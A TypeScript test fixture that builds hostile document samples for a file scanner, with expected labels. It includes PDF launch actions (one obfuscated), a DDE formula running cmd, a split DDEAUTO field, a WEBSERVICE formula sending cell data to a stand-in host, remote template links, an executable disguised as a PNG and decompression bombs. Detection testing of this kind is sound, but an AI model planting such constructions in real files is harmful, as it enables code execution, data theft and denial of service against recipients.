import { deflateSync } from 'node:zlib';
import { rels } from './bad-papers.js';
import { chunk, docx, jpeg, packedObjects, pdf, png, xlsx, type ZipPiece } from './papers.js';

/** A piece with a field, and a relation within the package. */
const field = (xml: string): ZipPiece => ({
  name: 'word/footer1.xml',
  data: `<w:ftr xmlns:w="x">${xml}</w:ftr>`,
});
const inner = (kind: string): ZipPiece => ({
  name: 'word/_rels/document.xml.rels',
  data: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="x.bin"/></Relationships>`,
});
const sheet = (formula: string): ZipPiece => ({
  name: 'xl/worksheets/sheet1.xml',
  data: `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
});

/** By somebody who reads what such files are made of: what it is, its name, its content, what is said of it. */
export const insidersPapers: [string, string, Buffer, string][] = [
  [
    'a PDF that starts a program, spelled in numbers',
    'x.pdf',
    pdf(['a'], { catalog: '/OpenAction << /S /L#61unch /F (calc) >>' }),
    'file: active',
  ],
  [
    'a PDF that starts a program from a packed list',
    'x.pdf',
    packedObjects('<< /S /Launch /F (calc) >>'),
    'file: active',
  ],
  [
    'a PDF that sends what is filled in',
    'x.pdf',
    pdf(['a'], { catalog: '/OpenAction << /S /SubmitForm /F (https://ke-xau.example/) >>' }),
    'file: active',
  ],
  [
    'a PDF that opens a file of a share',
    'x.pdf',
    pdf(['a'], { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\ke-xau\\\\a.pdf) /D [0 /Fit] >>' }),
    'file: active',
  ],
  [
    'a PDF that is a form of scripts',
    'x.pdf',
    pdf(['a'], {
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      objects: ['<< /Length 11 >>\nstream\n<xdp></xdp>\nendstream'],
    }),
    'file: active',
  ],
  ...[
    'file:////ke-xau/t.dotm',
    '//ke-xau/t.dotm',
    ' https://ke-xau.example/t',
    'dav://ke-xau/t',
    'file:%5C%5Cke-xau/t',
  ].map((target): [string, string, Buffer, string] => [
    `a document that fetches ${target}`,
    'x.docx',
    docx(['a'], [rels(target)]),
    'file: linked',
  ]),
  [
    'a field that starts a program, in pieces',
    'x.docx',
    docx(
      ['a'],
      [
        field(
          '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd "/k"</w:instrText></w:r></w:p>',
        ),
      ],
    ),
    'file: active',
  ],
  [
    'a field that fetches a picture',
    'x.docx',
    docx(
      ['a'],
      [field('<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://ke-xau.example/a.png&quot; \\d"/>')],
    ),
    'file: linked',
  ],
  ...(
    [
      ['aFChunk', 'embedded'],
      ['oleObject', 'embedded'],
      ['package', 'embedded'],
      ['vbaProject', 'macros'],
      ['control', 'active'],
    ] as const
  ).map(([kind, flaw]): [string, string, Buffer, string] => [
    `${kind} under another name`,
    'x.docx',
    docx(['a'], [inner(kind), { name: 'word/x.bin', data: 'x' }]),
    `file: ${flaw}`,
  ]),
  [
    'a program called a picture',
    'x.docx',
    docx(['a'], [{ name: 'word/media/a.png', data: 'MZ\u0000\u0000' }]),
    'file: embedded',
  ],
  ['a program beside the text', 'x.docx', docx(['a'], [{ name: 'word/a.exe', data: 'x' }]), 'file: embedded'],
  [
    'a link to a program',
    'x.xlsx',
    xlsx(
      ['a'],
      [{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink><ddeLink/></externalLink>' }],
    ),
    'file: active',
  ],
  ['a formula that asks a program', 'x.xlsx', xlsx(['a'], [sheet("cmd|'/c calc'!A0")]), 'file: active'],
  [
    'a formula that fetches',
    'x.xlsx',
    xlsx(['a'], [sheet('WEBSERVICE("https://ke-xau.example/"&amp;A1)')]),
    'file: linked',
  ],
  [
    'a workbook that asks another source',
    'x.xlsx',
    xlsx(
      ['a'],
      [
        {
          name: 'xl/connections.xml',
          data: '<connections><connection><webPr url="x"/></connection></connections>',
        },
      ],
    ),
    'file: linked',
  ],
  ['a picture of ten thousand million dots', 'x.png', png([], [100_000, 100_000]), 'file: unpacks_too_large'],
  ['a JPEG as large as it can say', 'x.jpg', jpeg([], [65_535, 65_535]), 'file: unpacks_too_large'],
  [
    'a note that unpacks to sixty megabytes',
    'x.png',
    png([
      chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(60_000_000, 0x61))])),
    ]),
    'file: unpacks_too_large',
  ],
  [
    'a note that does not unpack',
    'x.png',
    png([chunk('zTXt', Buffer.from('Comment\0\0abc'))]),
    'file: damaged',
  ],
];
